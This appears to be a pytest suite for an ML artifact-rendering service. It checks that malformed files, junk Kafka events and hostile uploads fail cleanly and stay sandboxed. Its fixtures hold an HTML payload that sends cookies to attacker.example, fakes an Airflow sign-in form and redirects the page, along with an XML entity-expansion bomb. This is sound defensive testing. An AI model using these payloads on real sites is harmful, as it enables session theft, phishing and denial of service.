"""Bad input ends as its own clear card; everybody else's pictures come as ever, and ingestion goes on."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest
from confluent_kafka import Producer
from playwright.sync_api import expect
from tests.harness.frames import frame_of
from tests.harness.minio_records import minio_message, minio_record
from tests.harness.samples import FOLDER, matrix_csv, png
from tests.harness.stack_fixtures import logged_in

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Page
    from tests.harness.wall import Card, Wall
    from tests.harness.whole import RunningStack

GONE_WRONG = {"dead", "unsupported"}
ATTACK = b"""<h1>Harmless</h1>
<script>
  for (const action of [
    () => alert(1), () => { top.location = 'https://attacker.example/' }, () => { parent.document.title = 'PWNED' },
    () => fetch('https://attacker.example/?' + document.cookie), () => localStorage.setItem('pwned', 'yes'),
    () => window.open('https://attacker.example/'), () => new WebSocket('wss://attacker.example/'),
    () => fetch('/belvedere/api/artifacts'), () => navigator.serviceWorker.register('/sw.js'),
  ]) { try { action() } catch (error) { document.title = String(error) } }
</script>
<img src="https://attacker.example/pixel.png"><iframe src="https://attacker.example/"></iframe>
<form action="https://attacker.example/" method="post"><button>Sign in to Airflow</button></form>
<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/a.css">
"""

ESCAPE = b'<h1>Wait</h1><meta http-equiv="refresh" content="0; url=https://attacker.example/">'

# Name -> content, content type, and the states it may end in.
BAD = {
    "empty.csv": (b"", "text/csv", {"dead", "unsupported", "rendered"}),
    "empty.png": (b"", "image/png", {"dead", "unsupported", "rendered"}),
    "truncated.png": (png(1)[:200], "image/png", {"rendered"} | GONE_WRONG),
    "not-a-picture.png": (b"this is text", "image/png", {"rendered"} | GONE_WRONG),
    "picture.csv": (png(2), "text/csv", {"rendered"}),
    "table.png": ((FOLDER / "table" / "iris.csv").read_bytes(), "image/png", {"rendered"}),
    "undecodable.csv": (bytes(range(128, 256)) * 40, "text/csv", {"rendered"} | GONE_WRONG),
    "zeros.bin": (b"\0" * 10_000, "application/octet-stream", GONE_WRONG),
    "only-a-header.csv": (b"name,value\n", "text/csv", {"rendered"}),
    "missing-cells/confusion_matrix.csv": (b"a,a,3\na,b,\nb,a,1\n", "text/csv", {"rendered"} | GONE_WRONG),
    "ragged.csv": (b"a,b,c\n1,2\n3,4,5,6\n,,\n", "text/csv", {"rendered"} | GONE_WRONG),
    "broken/mlpipeline-ui-metadata.json": (
        b'{"version": 1, "outputs": [',
        "application/json",
        GONE_WRONG | {"rendered"},
    ),
    "nothing/mlpipeline-ui-metadata.json": (b'{"outputs": []}', "application/json", {"rendered"} | GONE_WRONG),
    "utf16.csv": ("naïve;café\n1;2\n".encode("utf-16"), "text/csv", {"rendered"}),
    "one-line.txt": (b"x" * 3_000_000, "text/plain", {"rendered"}),
    "bomb.svg": (
        b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
        "image/svg+xml",
        {"rendered"} | GONE_WRONG,
    ),
}


# Odd, but nothing is wrong with what is shown of them.
NOTHING_TO_SAY = {"picture.csv", "table.png", "not-a-picture.png", "only-a-header.csv", "utf16.csv"}


@pytest.fixture(scope="module")
def prefix() -> str:
    return f"bad/{uuid.uuid4().hex[:8]}/"


@pytest.fixture(scope="module")
def cards(wall: Wall, prefix: str) -> dict[str, Card]:
    """Everything bad at once, with good files in between."""
    etags = {}
    for number, (name, (content, content_type, _states)) in enumerate(BAD.items()):
        etags[name] = wall.put(prefix + name, content, content_type)
        etags[f"good-{number}.csv"] = wall.put(f"{prefix}good-{number}.csv", matrix_csv(number), "text/csv")
    return {name: wall.settled(prefix + name, etag, seconds=120.0) for name, etag in etags.items()}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_has_a_card_of_its_own_that_says_what_is_wrong(cards: dict[str, Card], name: str) -> None:
    card, allowed = cards[name], BAD[name][2]

    assert card["state"] in allowed, card["error"]
    if card["state"] == "rendered":
        assert card["warnings"] or name in NOTHING_TO_SAY
    else:
        assert card["error"]["code"]
        assert len(card["error"]["message"]) > 15
        assert "Traceback" not in card["error"]["message"]


def test_the_good_files_in_between_are_all_rendered(cards: dict[str, Card]) -> None:
    assert {card["state"] for name, card in cards.items() if name.startswith("good-")} == {"rendered"}


def test_a_table_without_rows_says_so(cards: dict[str, Card]) -> None:
    table = cards["only-a-header.csv"]["facts"]["table"]

    assert (table["rows"], table["columns"]) == (0, 2)


def test_the_bytes_count_not_the_name(cards: dict[str, Card]) -> None:
    assert cards["picture.csv"]["facts"]["image"]["format"] == "PNG"
    assert cards["table.png"]["facts"]["table"]["rows"] == 150


def test_no_log_of_a_rendering_run_tells_a_secret(stack: RunningStack, cards: dict[str, Card]) -> None:
    runs = {card["run"]["run_id"] for card in cards.values() if card["run"]}

    text = "".join(stack.airflow.logs("render_artifacts", run_id) for run_id in sorted(runs)[:5])

    secrets = ("MINIO_ACCESS_KEY", "MINIO_SECRET_KEY", "AIRFLOW_PASSWORD", "CATALOG_DSN")
    assert text
    assert [name for name in secrets if stack.env[name] in text] == []


@pytest.fixture
def produce(stack: RunningStack) -> Callable[[bytes], None]:
    producer = Producer({"bootstrap.servers": stack.env["KAFKA_BOOTSTRAP"]})

    def send(value: bytes) -> None:
        producer.produce("artifacts", value=value)
        assert producer.flush(20) == 0

    return send


def test_junk_on_the_topic_is_buried_and_the_next_event_is_served(
    wall: Wall, prefix: str, produce: Callable[[bytes], None]
) -> None:
    for junk in (b"", b"\xff\xfe\x00", b"null", b"{}", b'{"Records": [{}]}', b"[" * 200_000, minio_message()[:-20]):
        produce(junk)

    assert wall.show(f"{prefix}after-junk.csv", matrix_csv(50), "text/csv")["state"] == "rendered"


def test_an_event_of_an_object_that_never_was_is_its_own_clear_card(
    wall: Wall, prefix: str, produce: Callable[[bytes], None]
) -> None:
    key = f"{prefix}never-was.csv"
    produce(minio_message(minio_record(key, bucket="mlpipeline", sequencer="187B0C1D2E3F4A5B")))

    card = wall.settled(key)

    assert card["state"] == "dead"
    assert "not in its bucket" in card["error"]["message"]


def test_an_event_delivered_many_times_is_rendered_once(
    wall: Wall, prefix: str, produce: Callable[[bytes], None]
) -> None:
    key = f"{prefix}repeated.csv"
    card = wall.show(key, matrix_csv(60), "text/csv")
    sequencer = "187B0C1D2E3F4A5B"
    for _ in range(10):
        produce(minio_message(minio_record(key, bucket="mlpipeline", etag=card["etag"], sequencer=sequencer)))
    wall.show(f"{prefix}behind-it.csv", matrix_csv(61), "text/csv")

    again = wall.card(key)

    assert again is not None
    assert (again["rendered_at"], again["attempts"]) == (card["rendered_at"], 1)


@dataclass(slots=True)
class Harm:
    """What a hostile page got done."""

    dialogs: list[str] = field(default_factory=list)
    sent: list[str] = field(default_factory=list)
    windows: list[str] = field(default_factory=list)


@pytest.fixture
def victim(browser: Browser, stack: RunningStack) -> Iterator[tuple[Page, Harm]]:
    """A logged-in page, and what happens to it. Errors in a hostile page's scripts are its own business."""
    context = logged_in(browser, stack)
    page, harm = context.new_page(), Harm()
    page.on("dialog", lambda dialog: (harm.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("requestfinished", lambda request: harm.sent.append(request.url))
    context.on("page", lambda opened: harm.windows.append(opened.url))
    yield page, harm
    context.close()


def test_html_that_attacks_the_page_is_shut_in(
    victim: tuple[Page, Harm], stack: RunningStack, wall: Wall, prefix: str
) -> None:
    page, harm = victim
    card = wall.show(f"{prefix}attack.html", ATTACK, "text/html")
    assert card["state"] == "rendered", card["error"]

    page.goto(f"{stack.url}{card['page']}")
    frame = page.locator("iframe").first.content_frame
    expect(frame.locator("body")).to_contain_text("Harmless", timeout=30_000)
    frame.locator("form button").click()

    assert page.url == f"{stack.url}{card['page']}"
    assert "PWNED" not in page.title()
    assert page.evaluate("localStorage.getItem('pwned')") is None
    assert [url for url in harm.sent if "attacker.example" in url] == []
    assert (harm.dialogs, harm.windows) == ([], [])
    sandboxes = page.locator("iframe").evaluate_all("frames => frames.map(frame => frame.getAttribute('sandbox'))")
    assert all(sandbox is not None and "allow-same-origin" not in sandbox for sandbox in sandboxes)


def test_html_that_leads_away_gets_nowhere(
    victim: tuple[Page, Harm], stack: RunningStack, wall: Wall, prefix: str
) -> None:
    page, harm = victim
    card = wall.show(f"{prefix}escape.html", ESCAPE, "text/html")

    page.goto(f"{stack.url}{card['page']}")
    frame = frame_of(page, "")
    frame.wait_for_load_state("networkidle")  # the page itself is never idle: its stream stays open

    assert page.url == f"{stack.url}{card['page']}"
    assert [url for url in harm.sent if "attacker.example" in url] == []
    expect(page.locator("h1")).to_contain_text("escape.html")


def test_a_huge_table_is_sampled_within_bounded_memory_and_says_so(wall: Wall, prefix: str) -> None:
    line = b"2026-11-22T00:00:00,sensor-%07d,0.123456,some text that fills the row\n"
    rows = 4_500_000
    content = b"time,sensor,value,note\n" + b"".join(line % number for number in range(rows))
    assert len(content) > 300_000_000

    card = wall.settled(f"{prefix}huge.csv", wall.put(f"{prefix}huge.csv", content, "text/csv"), seconds=180.0)

    assert card["state"] == "rendered", card["error"]
    assert card["facts"]["table"]["rows"] == rows
    assert card["provenance"]["sampled"]["total"] == rows
    assert card["provenance"]["sampled"]["shown"] < rows
    assert card["provenance"]["usage"]["peak_memory_bytes"] < 768 * 1024**2
